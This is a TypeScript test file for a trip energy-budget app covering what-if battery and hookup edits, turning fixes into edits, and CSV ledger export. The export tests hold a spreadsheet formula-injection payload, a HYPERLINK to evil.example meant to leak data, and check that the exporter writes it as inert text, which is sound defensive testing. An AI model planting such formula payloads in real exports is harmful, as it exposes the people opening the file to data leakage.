import { describe, expect, it } from 'vitest';
import { editForFix } from '@/components/budget/apply-fix';
import { applyWhatIf, rigWithExtraSolar, withRecord } from '@/components/budget/what-if';
import { daysCsv, filterLedger, ledgerCsv } from '@/components/ledger/ledger-csv';
import { checkFixes, DEMO_TRIPS, simulateTrip, withFixes } from '@/shared/engine';
import type { Fix } from '@/shared/engine/result-types';
import { cabinSchema } from '@/shared/schemas/rig';
import { toEngineInput } from '@/shared/trip-to-engine-input';
import { NO_WHAT_IF } from '@/stores/what-if-store';
import { demoDetail } from '../e2e/fixtures';
import { withSyntheticRecord } from '../factories/recorded-weather';

const detail = demoDetail('highlandLoop');
const input = toEngineInput(detail);
if (!input) throw new Error('the demo trip has stops');
const result = simulateTrip(input);

describe('engine input from a stored trip', () => {
  it('when a trip was stored before rigs had a living space, then it runs on the default one (a 6 m caravan for two)', () => {
    const { cabin: _cabin, ...olderRig } = detail.rig.rig;
    const older = { ...detail, rig: { ...detail.rig, rig: olderRig as typeof detail.rig.rig } };
    const fromOlder = toEngineInput(older);
    if (!fromOlder) throw new Error('no input');
    const withDefault = toEngineInput({
      ...detail,
      rig: { ...detail.rig, rig: { ...olderRig, cabin: cabinSchema.parse({}) } },
    });
    if (!withDefault) throw new Error('no input');
    expect(simulateTrip(fromOlder).headline).toEqual(simulateTrip(withDefault).headline);
  });
});

describe('what-if edits', () => {
  it('when no what-if is on, then the input is unchanged', () => {
    expect(applyWhatIf(input, NO_WHAT_IF)).toEqual(input);
  });
  it('when half again the battery is on, then the lowest charge does not fall', () => {
    const bigger = simulateTrip(applyWhatIf(input, { ...NO_WHAT_IF, extraBattery: true }));
    expect(bigger.headline.capacityWh).toBeCloseTo(result.headline.capacityWh * 1.5, 0);
    expect(bigger.headline.energyShortWh).toBeLessThan(result.headline.energyShortWh);
  });
  it('when the hookups are skipped, then no stop keeps one and less comes from shore power', () => {
    const skipped = applyWhatIf(input, { ...NO_WHAT_IF, skipHookup: true });
    expect(skipped.trip.stops.every((s) => s.hookup === null)).toBe(true);
    expect(simulateTrip(skipped).headline.hookupWh).toBe(0);
  });
  it('when the sky is one level worse, then clear becomes hazy and overcast stays overcast', () => {
    const worse = applyWhatIf(input, { ...NO_WHAT_IF, worseSky: true });
    expect(input.trip.stops.map((s) => s.skyOutlook)).toContain('clear');
    expect(worse.trip.stops.map((s) => s.skyOutlook)).not.toContain('clear');
  });
  it('when the budget runs on recorded years, then a what-if runs on the same years and only the change differs', () => {
    const onRecord = withRecord(input, withSyntheticRecord(input, 8).weather);
    if (!onRecord) throw new Error('no input');
    const base = simulateTrip(onRecord).chance;
    const bigger = simulateTrip(applyWhatIf(onRecord, { ...NO_WHAT_IF, extraBattery: true })).chance;
    expect(base?.years).toBe(8);
    expect(bigger?.byYear.map((y) => y.year).sort()).toEqual(base?.byYear.map((y) => y.year).sort());
    expect(bigger?.held).toBeGreaterThanOrEqual(base?.held ?? 0);
    expect(bigger?.worst.lowestSocPct).toBeGreaterThanOrEqual(base?.worst.lowestSocPct ?? 0);
    // No record fetched: the plan is left as it is.
    expect(withRecord(input, null)).toBe(input);
  });
  it('when a rig has no solar, then more solar adds an array and a controller', () => {
    const rig = rigWithExtraSolar({ ...detail.rig.rig, solarArrays: [], controller: null });
    expect(rig.solarArrays).toHaveLength(1);
    expect(rig.controller?.kind).toBe('mppt');
  });
});

describe('flag fixes as edits', () => {
  const flags = withFixes(result.flags, checkFixes(input));
  const fixes = flags.flatMap((f) => f.fixes);
  const first = (kind: Fix['kind']) => fixes.find((f) => f.kind === kind);

  it.each(['add-battery', 'add-hookup-night', 'add-generator-hours', 'larger-inverter'] as const)(
    'when the fix is %s, then it becomes an edit',
    (kind) => {
      const fix = first(kind);
      expect(fix).toBeDefined();
      if (fix) expect(editForFix(detail, fix, result.days)).not.toBeNull();
    },
  );

  it('when another hookup supply is picked, then the stop is saved with that supply and the summary names it', () => {
    const fix = first('add-hookup-night');
    if (!fix) throw new Error('expected a hookup fix');
    const offered = editForFix(detail, fix, result.days);
    const picked = editForFix(detail, fix, result.days, { supply: { amps: 10, volts: 230 } });
    if (offered?.kind !== 'stop' || picked?.kind !== 'stop') throw new Error('expected stop edits');
    expect(offered.stop.hookup).toEqual({ amps: fix.params.amps, volts: fix.params.volts });
    expect(picked.stop.hookup).toEqual({ amps: 10, volts: 230 });
    expect(picked.summary).toContain('10 A at 230 V');
  });

  it('when advice cannot be an edit (stagger, cabling), then no edit is offered', () => {
    for (const kind of ['stagger-appliances', 'check-cabling', 'move-appliance-to-drive'] as const) {
      const fix = first(kind);
      if (fix) expect(editForFix(detail, fix, result.days)).toBeNull();
    }
  });

  it('when a battery fix is applied, then its energy-short flag is gone', () => {
    const flag = flags.find((f) => f.kind === 'energy-short');
    const fix = flag?.fixes.find((f) => f.kind === 'add-battery');
    const edit = fix ? editForFix(detail, fix, result.days) : null;
    if (edit?.kind !== 'rig') throw new Error('expected a rig edit');
    const after = simulateTrip({ ...input, rig: edit.rig });
    expect(after.flags.map((f) => f.id)).not.toContain(flag?.id);
  });

  it('when a fix the engine says clears its flag is applied as an edit, then that stretch holds the reserve', () => {
    let checked = 0;
    for (const flag of flags.filter((f) => f.kind === 'energy-short' || f.kind === 'below-reserve')) {
      for (const fix of flag.fixes.filter((f) => f.check?.clears)) {
        const edit = editForFix(detail, fix, result.days);
        if (!edit || edit.kind === 'stop') continue;
        const edited =
          edit.kind === 'rig'
            ? { ...input, rig: edit.rig }
            : {
                ...input,
                appliances: (input.appliances ?? []).map((a) =>
                  a.id === edit.record.id ? { ...a, schedule: edit.schedule } : a,
                ),
              };
        const after = simulateTrip(edited);
        const rows = after.ledger.slice(flag.drawdown.firstRow, flag.window.lastRow + 1);
        expect(Math.min(...rows.map((r) => r.socPct))).toBeGreaterThanOrEqual(after.headline.reservePct - 1e-6);
        checked++;
      }
    }
    expect(checked).toBeGreaterThan(0);
  });

  it("when a generator fix names a stop, then the routine runs on that stop's days inside its hours", () => {
    const fix = first('add-generator-hours');
    const edit = fix ? editForFix(detail, fix, result.days) : null;
    if (edit?.kind !== 'rig' || edit.rig.generator?.mode?.kind !== 'routine')
      throw new Error('expected a generator routine');
    const w = edit.rig.generator.mode.windows[0];
    expect(w?.days?.kind).toBe('trip-days');
    expect(w?.startHour).toBe(Number(fix?.params.startHour));
    expect(w?.startMinute).toBe(Number(fix?.params.startMinute));
    expect((w?.startHour ?? 0) * 60 + (w?.minutes ?? 0)).toBeLessThanOrEqual(Number(fix?.params.endHour) * 60);
  });
});

describe('ledger export', () => {
  it('when only shortfalls are asked for, then every row left has one', () => {
    const rows = filterLedger(result.ledger, { stopIndex: null, shortOnly: true });
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.energyShortWh > 0 || r.socPct <= 0)).toBe(true);
  });
  it('when one stop is chosen, then only its hours remain', () => {
    const rows = filterLedger(result.ledger, { stopIndex: 1, shortOnly: false });
    expect(rows.every((r) => r.where.kind === 'stop' && r.where.stopIndex === 1)).toBe(true);
  });
  const FORMULA_NAME = '=HYPERLINK("http://evil.example/?leak","Click")';
  const INERT_NAME = `"'=HYPERLINK(""http://evil.example/?leak"",""Click"")"`;
  const stopNames = (first: string) => detail.stops.map((s, i) => (i === 0 ? first : s.stop.name));

  it('when names carry commas, then the CSV quotes them', () => {
    const csv = ledgerCsv(result.ledger.slice(0, 2), stopNames('Loch, north shore'));
    const lines = csv.trim().split('\r\n');
    expect(lines).toHaveLength(3);
    expect(lines[1]).toContain('"Loch, north shore"');
  });
  it('when a stop is named like a formula, then the hourly CSV writes it as inert text', () => {
    const csv = ledgerCsv(result.ledger.slice(0, 2), stopNames(FORMULA_NAME));
    const row = csv.split('\r\n')[1] ?? '';
    expect(row).toContain(`,${INERT_NAME},`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
  it('when a stop is named like a formula, then the daily CSV writes it as inert text and figures stay numbers', () => {
    const csv = daysCsv(result.days, stopNames(FORMULA_NAME));
    const [header, firstDay] = csv.split('\r\n');
    expect(header?.split(',').slice(0, 3)).toEqual(['date', 'travel day', 'stops']);
    expect(firstDay).toContain(`,${INERT_NAME},`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
    const negativeNet = result.days.find((d) => d.netWh < 0);
    if (!negativeNet) throw new Error('the demo trip has a day that uses more than it harvests');
    expect(csv).toContain(`,${Math.round(negativeNet.netWh * 10) / 10},`);
    expect(csv).not.toContain(",'-");
  });
  it('when the hours are exported, then each carries the outside, cabin and battery temperatures and what the battery can give', () => {
    const csv = ledgerCsv(result.ledger.slice(0, 1), ['Loch']);
    const [header, first] = csv.trim().split('\r\n');
    expect(header).toMatch(/outside °C,cabin °C,battery °C,battery deliverable %$/);
    const row = result.ledger[0];
    const tail = [row?.ambientC, row?.cabinC, row?.batteryC, row?.batteryCapacityPct].map((v) =>
      String(Math.round((v ?? 0) * 10) / 10),
    );
    expect(first?.split(',').slice(-4)).toEqual(tail);
  });
});

it('the demo fixture is the engine demo', () => {
  expect(detail.trip.name).toBe(DEMO_TRIPS.highlandLoop.trip.name);
});
